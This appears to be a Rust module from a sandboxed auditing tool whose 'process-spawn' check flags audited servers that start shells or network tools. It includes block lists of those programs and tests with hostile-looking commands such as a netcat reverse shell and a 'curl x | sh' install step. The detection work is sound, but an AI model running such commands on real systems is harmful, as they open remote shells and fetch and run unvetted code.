//! `process-spawn`: shells and network tools started by the server.
//!
//! Every exec after the server's own start is a note; an exec whose program is a shell or a
//! network tool is a finding. The server's own start is the first exec of the run, together with
//! the execs that immediately follow it from the same pid with the same argv (a `PATH` search
//! tries each directory in turn).
//!
//! The program is named by the basename of the executed path or of `argv[0]` (either one
//! suffices: `/bin/sh` run as `python` is still a shell); `busybox APPLET` and `openssl s_client`
//! are looked through. Execs are grouped by pid and argv (one finding per `PATH` search).
//!
//! Version 4: in the install phase, a shell whose parent is the installer itself (the first
//! exec of the audit, npm re-executing as `node` under the same pid) is the installer running
//! a lifecycle script (`sh -c 'node install.js'`: npm runs every script through a shell): a
//! note saying so. What that script runs is judged on its own: a shell or a network tool it
//! starts is still a finding.
//!
//! Version 5 judges as version 4 did, but says `not-observed`, never `pass`, where the run lost
//! calls the recorder should have seen (`manifest.recorder.lost`: the rule is
//! `outcome.rs`'s, which its lock now covers).
//!
//! Version 6 judges as version 5 did, except that records of the open and stat families the
//! eBPF channel lost (`manifest.recorder.lost_file_calls`) no longer blind it: it reads execs
//! only. And a network diagnostic ([`DIAGNOSTICS`]: `ping`, `dig`, `host`...) that a tool's
//! own name or description names, run during that tool's call with arguments that carry none
//! of the call's input (`ping -c 1 127.0.0.1` for "ping the gateway"), is a note: the tool
//! ran the program it exists to run. A shell, a downloader, a program that opens a remote
//! shell or any connection (`ssh`, `nc`, `socat`), or one whose argv carries the call's input
//! (a value of its arguments, the audit's marker) is judged as before.

use crate::paths::basename;
use crate::text::{self, Groups};
use crate::{Channel, CheckInfo, Evaluation, Evaluator};
use glassbox_model::{Bytes, Event, EventKind, Severity};

pub(crate) const INFO: CheckInfo = CheckInfo {
    id: "process-spawn",
    version: 6,
    claim: "spawns no shells or network tools",
    severity: Severity::Medium,
    channels: &[Channel::Syscalls],
    also_reads: &[],
    file_calls: false,
    accuses: "",
    sources: &[
        "process_spawn.rs",
        "paths.rs",
        "flags.rs",
        "text.rs",
        "outcome.rs",
    ],
};

/// Program names of shells.
pub(crate) const SHELLS: &[&str] = &[
    "sh", "bash", "rbash", "dash", "zsh", "ksh", "ksh93", "mksh", "pdksh", "yash", "fish", "csh",
    "tcsh", "ash", "pwsh",
];

/// Program names of network tools.
pub(crate) const NETWORK_TOOLS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "ssh",
    "scp",
    "sftp",
    "telnet",
    "ftp",
    "tftp",
    "rsync",
    "nslookup",
    "dig",
    "host",
    "drill",
    "ping",
    "ping6",
    "nmap",
    "aria2c",
];

/// Network diagnostics a tool may exist to run: one its name or description names, run with
/// constant arguments during its call, is a note (version 6).
pub(crate) const DIAGNOSTICS: &[&str] = &["ping", "ping6", "dig", "host", "nslookup", "drill"];

/// Input values shorter than this are matched to a whole argument, not inside one (a `1`
/// would be found in any address).
const INPUT_INSIDE: usize = 4;

/// Maximum length of the argv shown in a summary, in characters.
const ARGV_CHARS: usize = 200;

/// What kind of program an exec runs, when it is one this check flags.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Shell,
    NetworkTool,
}

fn name_kind(name: &[u8]) -> Option<Kind> {
    if SHELLS.iter().any(|s| s.as_bytes() == name) {
        Some(Kind::Shell)
    } else if NETWORK_TOOLS.iter().any(|s| s.as_bytes() == name) {
        Some(Kind::NetworkTool)
    } else {
        None
    }
}

/// Classifies a program given its one name (basename) and its argv.
fn program_kind(name: &[u8], argv: &[Bytes]) -> Option<Kind> {
    match name {
        b"busybox" => {
            // `busybox sh -c ...`, `busybox wget ...`: the applet is argv[1].
            let applet = argv.get(1)?;
            name_kind(basename(applet.as_slice()))
        }
        b"openssl" => argv
            .iter()
            .skip(1)
            .any(|a| matches!(a.as_slice(), b"s_client" | b"s_server"))
            .then_some(Kind::NetworkTool),
        _ => name_kind(name),
    }
}

/// Classifies an exec by its path and argv.
pub(crate) fn classify(path: &Bytes, argv: &[Bytes]) -> Option<Kind> {
    program_kind(basename(path.as_slice()), argv).or_else(|| {
        let argv0 = argv.first()?;
        program_kind(basename(argv0.as_slice()), argv)
    })
}

#[derive(Debug, Default)]
struct Exec {
    path: Bytes,
    ppid: i32,
    kind: Option<Kind>,
    /// A shell the installer started for a lifecycle script (version 4): a note.
    lifecycle: bool,
    /// A diagnostic its call's tool names, run with none of the call's input (version 6): a
    /// note, with the program's name. Decided by the group's first exec: the rest are the same
    /// `PATH` search, whose last failed attempt the recorder may stamp later (once it learns
    /// the result), in a phase after the call.
    explained: Option<String>,
}

/// What explains a diagnostic: each tool's words (its name's and description's, lowercase),
/// and each call's input (the string and number values of its arguments).
#[derive(Debug, Default)]
struct Tools {
    words: std::collections::HashMap<String, Vec<String>>,
    inputs: std::collections::HashMap<(String, u32), Vec<String>>,
    marker: Option<String>,
}

impl Tools {
    fn of(manifest: &glassbox_model::Manifest) -> Tools {
        let session = &manifest.session;
        let mut t = Tools {
            marker: session.input_marker.clone(),
            ..Tools::default()
        };
        for tool in &session.tools {
            let text = format!(
                "{} {}",
                tool.name,
                tool.description.as_deref().unwrap_or("")
            );
            t.words.insert(tool.name.clone(), words(&text));
            let calls: Vec<(u32, &serde_json::Value)> = match tool.calls.as_slice() {
                [] => tool.arguments.iter().map(|a| (1, a)).collect(),
                calls => calls.iter().map(|c| (c.k, &c.arguments)).collect(),
            };
            for (k, args) in calls {
                let mut values = Vec::new();
                leaves(args, &mut values);
                t.inputs.insert((tool.name.clone(), k), values);
            }
        }
        t
    }

    /// The diagnostic `name` run with `argv` during `phase`, when its tool names it and the
    /// argv carries none of the call's input.
    fn explains(&self, phase: &glassbox_model::Phase, name: &[u8], argv: &[Bytes]) -> bool {
        let Some((tool, k)) = phase.call_of() else {
            return false;
        };
        let name = String::from_utf8_lossy(name);
        if !DIAGNOSTICS.contains(&name.as_ref())
            || !self
                .words
                .get(tool)
                .is_some_and(|w| w.iter().any(|w| *w == name))
        {
            return false;
        }
        let inputs = self.inputs.get(&(tool.to_string(), k));
        let carries = |a: &str| {
            self.marker.as_deref().is_some_and(|m| a.contains(m))
                || inputs.is_some_and(|vs| {
                    vs.iter().any(|v| match v.len() < INPUT_INSIDE {
                        true => a == v,
                        false => a.contains(v.as_str()),
                    })
                })
        };
        !argv
            .iter()
            .skip(1)
            .any(|a| carries(&String::from_utf8_lossy(a.as_slice())))
    }
}

/// The words of `text`, lowercase: split at what is not a letter or a digit, and where a
/// lowercase letter meets an uppercase one (`pingHost`).
fn words(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut word = String::new();
    let mut prev_lower = false;
    for c in text.chars() {
        if (!c.is_alphanumeric() || (c.is_uppercase() && prev_lower)) && !word.is_empty() {
            out.push(std::mem::take(&mut word));
        }
        if c.is_alphanumeric() {
            word.extend(c.to_lowercase());
        }
        prev_lower = c.is_lowercase();
    }
    if !word.is_empty() {
        out.push(word);
    }
    out
}

/// The string and number values in `v`, at any depth.
fn leaves(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) if !s.is_empty() => out.push(s.clone()),
        serde_json::Value::Number(n) => out.push(n.to_string()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| leaves(x, out)),
        serde_json::Value::Object(o) => o.values().for_each(|x| leaves(x, out)),
        _ => {}
    }
}

/// The check's state over one run.
pub(crate) struct State {
    groups: Groups<(i32, Vec<Bytes>), Exec>,
    /// The first exec (the server's own start): its pid and argv.
    start: Option<(i32, Vec<Bytes>)>,
    in_start: bool,
    /// Shells and network tools past the group cap.
    overflow_flagged: u64,
    tools: Tools,
}

pub(crate) fn start(c: &crate::Context<'_>) -> Box<dyn Evaluator> {
    Box::new(State {
        groups: Groups::new(),
        start: None,
        in_start: true,
        overflow_flagged: 0,
        tools: Tools::of(c.manifest),
    })
}

impl Evaluator for State {
    fn event(&mut self, e: &Event) {
        let EventKind::Exec { path, argv, .. } = &e.kind else {
            return;
        };
        match &self.start {
            None => {
                self.start = Some((e.pid, argv.clone()));
                return;
            }
            // The same exec again (a PATH search retrying) is still the server's own start.
            Some((pid, start_argv)) if self.in_start && *pid == e.pid && start_argv == argv => {
                return;
            }
            Some(_) => self.in_start = false,
        }
        let Some(x) = self.groups.add((e.pid, argv.clone()), e.id, &e.phase) else {
            // Past the cap a shell or network tool still flags, as one line.
            if classify(path, argv).is_some() {
                self.overflow_flagged += 1;
            }
            return;
        };
        let first = x.path.as_slice().is_empty();
        x.path = path.clone();
        x.ppid = e.ppid;
        x.kind = classify(path, argv);
        let installer = self.start.as_ref().map(|(pid, _)| *pid);
        x.lifecycle = e.phase == glassbox_model::Phase::Install
            && x.kind == Some(Kind::Shell)
            && installer == Some(e.ppid);
        if first && x.kind == Some(Kind::NetworkTool) {
            let names = [Some(path.as_slice()), argv.first().map(|a| a.as_slice())];
            x.explained = names
                .into_iter()
                .flatten()
                .map(basename)
                .find(|n| self.tools.explains(&e.phase, n, argv))
                .map(|n| String::from_utf8_lossy(n).into_owned());
        }
    }

    fn finish(self: Box<Self>) -> Evaluation {
        let mut eval = Evaluation::default();
        let (overflow, overflow_flagged) = (self.groups.overflow, self.overflow_flagged);
        for g in self.groups.items {
            let (pid, argv) = &g.key;
            let what = match g.data.kind {
                Some(Kind::Shell) if g.data.lifecycle => "the installer ran a lifecycle script: ",
                Some(Kind::Shell) => "ran a shell: ",
                Some(Kind::NetworkTool) => "ran a network tool: ",
                None => "exec ",
            };
            let shown = if argv.is_empty() {
                format!("{} (empty argv)", g.data.path)
            } else {
                text::argv(argv, ARGV_CHARS)
            };
            let mut summary = format!(
                "{what}{shown} (pid {pid}, parent {}) during {}",
                g.data.ppid,
                text::phases(&g.phases)
            );
            if g.data.lifecycle {
                summary += ": npm runs every lifecycle script through a shell; what the script \
                            runs is listed on its own";
            }
            let explained = g.data.explained.as_ref();
            if let Some(name) = explained {
                summary += &format!(
                    ": the tool's name or description names {name}, and its arguments carry \
                     none of the call's input: the program the tool exists to run"
                );
            }
            let finding = INFO.finding(summary, g.ids, g.phases.first().cloned());
            if g.data.kind.is_some() && !g.data.lifecycle && explained.is_none() {
                eval.findings.push(finding);
            } else {
                eval.notes.push(finding);
            }
        }
        if overflow_flagged > 0 {
            eval.findings.push(INFO.finding(
                format!("{overflow_flagged} more execs of shells or network tools (not listed)"),
                Vec::new(),
                None,
            ));
        }
        if overflow > overflow_flagged {
            eval.notes.push(INFO.finding(
                format!("{} more execs (not listed)", overflow - overflow_flagged),
                Vec::new(),
                None,
            ));
        }
        eval
    }
}

#[cfg(test)]
pub(crate) fn evaluate(ev: &glassbox_model::Evidence) -> Evaluation {
    crate::evaluate_one(start, ev)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::Ev;
    use glassbox_model::Phase;

    fn kind(path: &str, argv: &[&str]) -> Option<Kind> {
        let argv: Vec<Bytes> = argv.iter().map(|a| Bytes::from(*a)).collect();
        classify(&Bytes::from(path), &argv)
    }

    #[test]
    fn the_servers_own_start_is_not_listed() {
        let ev = Ev::new().server_start().build();
        assert_eq!(evaluate(&ev), Evaluation::default());
        // Even when the server itself is a shell script run by a shell.
        let ev = Ev::new()
            .exec(2, "/bin/sh", &["sh", "start.sh"], Phase::Startup)
            .build();
        assert_eq!(evaluate(&ev), Evaluation::default());
    }

    #[test]
    fn path_search_of_the_start_is_skipped_but_a_later_same_argv_is_not() {
        let ev = Ev::new()
            .exec(2, "/usr/local/bin/bash", &["bash", "run"], Phase::Startup)
            .exec(2, "/usr/bin/bash", &["bash", "run"], Phase::Startup)
            .exec(3, "/usr/bin/bash", &["bash", "run"], Phase::Startup)
            .build();
        let eval = evaluate(&ev);
        assert_eq!(eval.findings.len(), 1);
        assert_eq!(eval.findings[0].evidence, vec![3]);
    }

    /// Issue 33: a diagnostic the tool exists to run (its name or description names it), run
    /// with constant arguments during its call, is a note; the same program with the call's
    /// input in its argv, in another tool's call, through a shell, or a downloader named as
    /// plainly, is a finding as before.
    #[test]
    fn a_diagnostic_the_tool_names_run_with_constant_arguments_is_a_note() {
        let describe = |ev: &mut glassbox_model::Evidence, tool: &str, description: &str| {
            let m = &mut ev.manifest.session;
            m.input_marker = Some("gbx7q".into());
            let t = m.tools.iter_mut().find(|t| t.name == tool).unwrap();
            t.description = Some(description.into());
        };
        let call = |t: &str| Phase::call(t, 1);
        let ev = Ev::new()
            .server_start()
            .call("pingGateway", 1, serde_json::json!({}))
            .call(
                "check_host",
                1,
                serde_json::json!({"host": "db.internal.test", "count": 3}),
            )
            .call("lookup", 1, serde_json::json!({"name": "gbx7q-1.example"}))
            .call(
                "fetch_page",
                1,
                serde_json::json!({"url": "https://x.test/"}),
            )
            .call("status", 1, serde_json::json!({}))
            .exec(
                3,
                "/usr/local/bin/ping",
                &["ping", "-c", "1", "127.0.0.1"],
                call("pingGateway"),
            )
            // The search's last attempt, stamped once the recorder learnt its result: after
            // the call (seen under load, with seccomp notification).
            .exec(
                3,
                "/usr/bin/ping",
                &["ping", "-c", "1", "127.0.0.1"],
                Phase::Shutdown,
            )
            .exec(
                4,
                "/usr/bin/ping",
                &["ping", "-c", "1", "db.internal.test"],
                call("check_host"),
            )
            .exec(
                5,
                "/usr/bin/ping",
                &["ping", "-c", "3", "10.0.0.1"],
                call("check_host"),
            )
            .exec(
                6,
                "/usr/bin/dig",
                &["dig", "+short", "gbx7q-1.example"],
                call("lookup"),
            )
            .exec(
                7,
                "/usr/bin/curl",
                &["curl", "-s", "https://x.test/"],
                call("fetch_page"),
            )
            .exec(
                8,
                "/bin/sh",
                &["sh", "-c", "ping -c 1 127.0.0.1"],
                call("pingGateway"),
            )
            .exec(
                9,
                "/usr/bin/ping",
                &["ping", "-c", "1", "127.0.0.1"],
                call("status"),
            )
            .build();
        let mut ev = ev;
        describe(
            &mut ev,
            "check_host",
            "Ping a host and say whether it answers.",
        );
        describe(&mut ev, "lookup", "Resolve a name with dig.");
        describe(&mut ev, "fetch_page", "Fetch a page with curl.");
        describe(&mut ev, "status", "Say whether the service is up.");
        let eval = evaluate(&ev);
        let flagged: Vec<&str> = eval.findings.iter().map(|f| f.summary.as_str()).collect();
        for pid in ["pid 4,", "pid 5,", "pid 6,", "pid 7,", "pid 8,", "pid 9,"] {
            assert!(
                flagged.iter().any(|f| f.contains(pid)),
                "{pid}: {flagged:#?}"
            );
        }
        assert_eq!(flagged.len(), 6, "{flagged:#?}");
        let note = eval
            .notes
            .iter()
            .find(|n| n.summary.contains("pid 3,"))
            .unwrap();
        assert!(
            note.summary
                .contains("names ping, and its arguments carry none of the call's input"),
            "{}",
            note.summary
        );
        assert_eq!(
            words("pingGateway ping_host: Ping-a HOST"),
            ["ping", "gateway", "ping", "host", "ping", "a", "host"]
        );
    }

    #[test]
    fn shells_and_network_tools_are_findings_others_are_notes() {
        let ev = Ev::new()
            .server_start()
            .exec(
                3,
                "/bin/sh",
                &["sh", "-c", "uname -a"],
                Phase::Call("run".into()),
            )
            .exec(
                4,
                "/usr/bin/curl",
                &["curl", "-s", "http://x"],
                Phase::Startup,
            )
            .exec(
                5,
                "/usr/bin/git",
                &["git", "status"],
                Phase::Call("git".into()),
            )
            .build();
        let eval = evaluate(&ev);
        let s: Vec<&str> = eval.findings.iter().map(|f| f.summary.as_str()).collect();
        assert_eq!(
            s,
            vec![
                "ran a shell: sh -c 'uname -a' (pid 3, parent 1) during call:run",
                "ran a network tool: curl -s http://x (pid 4, parent 1) during startup",
            ]
        );
        assert_eq!(eval.findings[0].evidence, vec![2]);
        assert_eq!(eval.notes.len(), 1);
        assert_eq!(
            eval.notes[0].summary,
            "exec git status (pid 5, parent 1) during call:git"
        );
        assert_eq!(eval.notes[0].evidence, vec![4]);
    }

    #[test]
    fn path_search_is_one_finding() {
        let ev = Ev::new()
            .server_start()
            .exec(3, "/usr/local/bin/wget", &["wget", "x"], Phase::Startup)
            .exec(3, "/usr/bin/wget", &["wget", "x"], Phase::Startup)
            .build();
        let eval = evaluate(&ev);
        assert_eq!(eval.findings.len(), 1);
        assert_eq!(eval.findings[0].evidence, vec![2, 3]);
    }

    #[test]
    fn classification() {
        for (path, argv) in [
            ("/bin/sh", &["sh", "-c", "x"][..]),
            ("/usr/bin/bash", &["bash"][..]),
            ("/bin/dash", &["-dash"][..]),
            ("/usr/bin/zsh", &["zsh"][..]),
            ("/usr/bin/fish", &["fish"][..]),
            ("/bin/busybox", &["busybox", "sh", "-c", "x"][..]),
            ("/bin/busybox", &["sh", "-c", "x"][..]),
            ("/usr/bin/python3", &["sh", "-c", "x"][..]),
            ("/bin/sh", &["python", "x"][..]),
        ] {
            assert_eq!(kind(path, argv), Some(Kind::Shell), "{path} {argv:?}");
        }
        for (path, argv) in [
            ("/usr/bin/curl", &["curl", "x"][..]),
            ("/usr/bin/wget", &["wget"][..]),
            ("/bin/nc", &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"][..]),
            ("/usr/bin/ncat", &["ncat"][..]),
            ("/usr/bin/socat", &["socat"][..]),
            ("/usr/bin/ssh", &["ssh", "host"][..]),
            ("/usr/bin/scp", &["scp"][..]),
            ("/usr/bin/rsync", &["rsync"][..]),
            ("/usr/bin/dig", &["dig", "x"][..]),
            ("/usr/bin/host", &["host", "x"][..]),
            ("/usr/bin/nslookup", &["nslookup"][..]),
            ("/bin/ping", &["ping", "-c1", "x"][..]),
            (
                "/usr/bin/openssl",
                &["openssl", "s_client", "-connect", "x:443"][..],
            ),
            ("/bin/busybox", &["busybox", "wget", "x"][..]),
        ] {
            assert_eq!(kind(path, argv), Some(Kind::NetworkTool), "{path} {argv:?}");
        }
    }

    #[test]
    fn look_alikes_are_not_flagged() {
        for (path, argv) in [
            ("/usr/bin/shellcheck", &["shellcheck", "x.sh"][..]),
            (
                "/usr/bin/bash-language-server",
                &["bash-language-server"][..],
            ),
            ("/usr/bin/hostname", &["hostname"][..]),
            ("/usr/bin/ssh-keygen", &["ssh-keygen", "-l"][..]),
            ("/usr/bin/curl-config", &["curl-config"][..]),
            ("/usr/bin/openssl", &["openssl", "rand", "-hex", "8"][..]),
            ("/bin/busybox", &["busybox", "ls"][..]),
            ("/bin/busybox", &["busybox"][..]),
            ("/usr/bin/python3", &["python3", "-c", "import sh"][..]),
            ("/usr/bin/node", &["node", "curl.js"][..]),
            ("/usr/bin/git", &["git", "clone", "ssh"][..]),
            ("/home/user/bin/bashful", &["bashful"][..]),
            ("/usr/bin/env", &["env", "bash"][..]),
        ] {
            assert_eq!(kind(path, argv), None, "{path} {argv:?}");
        }
    }

    #[test]
    fn hostile_argv_is_escaped_and_truncated() {
        let long = format!("echo \x1b[2J{}\n", "A".repeat(1000));
        let ev = Ev::new()
            .server_start()
            .exec(3, "/bin/sh", &["sh", "-c", &long], Phase::Startup)
            .build();
        let f = &evaluate(&ev).findings[0];
        assert!(!f.summary.contains('\x1b') && !f.summary.contains('\n'));
        assert!(f.summary.contains('…'));
        assert!(f.summary.chars().count() < 300, "{}", f.summary);
    }

    #[test]
    fn non_utf8_program_names_are_bytes() {
        let ev = Ev::new()
            .server_start()
            .event(
                3,
                Phase::Startup,
                EventKind::Exec {
                    syscall: "execve".into(),
                    path: Bytes(b"/tmp/\xff/sh".to_vec()),
                    argv: vec![Bytes(b"\xffx".to_vec())],
                },
            )
            .event(
                4,
                Phase::Startup,
                EventKind::Exec {
                    syscall: "execveat".into(),
                    path: Bytes(b"/tmp/s\xffh".to_vec()),
                    argv: vec![],
                },
            )
            .build();
        let eval = evaluate(&ev);
        assert_eq!(eval.findings.len(), 1);
        assert_eq!(eval.notes.len(), 1);
        assert!(eval.notes[0].summary.contains("(empty argv)"));
    }

    #[test]
    fn the_installers_own_lifecycle_shell_is_a_note_what_it_starts_is_not() {
        let ev = Ev::new()
            .exec_as(2, 1, "/usr/bin/npm", &["npm", "install"], Phase::Install)
            .exec_as(
                13,
                2,
                "/bin/sh",
                &["sh", "-c", "node install.js"],
                Phase::Install,
            )
            .exec_as(
                14,
                13,
                "/bin/sh",
                &["sh", "-c", "curl x | sh"],
                Phase::Install,
            )
            .exec_as(15, 14, "/usr/bin/curl", &["curl", "x"], Phase::Install)
            // The server's own shell later, from the same pid as the installer's: a finding.
            .exec_as(2, 1, "/bin/sh", &["sh", "-c", "id"], Phase::Startup)
            .build();
        let e = evaluate(&ev);
        let flagged: Vec<&str> = e.findings.iter().map(|f| f.summary.as_str()).collect();
        assert_eq!(flagged.len(), 3, "{flagged:?}");
        assert!(flagged.iter().any(|s| s.contains("curl x | sh")));
        assert!(flagged
            .iter()
            .any(|s| s.starts_with("ran a network tool: curl")));
        assert!(e.notes.iter().any(|n| n
            .summary
            .starts_with("the installer ran a lifecycle script: sh -c 'node install.js'")));
    }
}
